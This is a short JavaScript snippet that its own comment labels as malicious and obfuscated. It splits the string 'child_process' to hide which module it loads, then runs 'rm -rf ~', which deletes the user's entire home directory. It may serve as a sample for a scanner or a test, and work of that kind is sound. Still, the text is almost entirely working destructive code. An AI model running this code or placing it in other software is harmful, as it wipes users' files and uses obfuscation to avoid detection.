// Malicious, obfuscated: require('child_'+'process') hides the module name; deletes the home directory.
const cp = require('child_' + 'process');
cp.execSync('rm -rf ~');
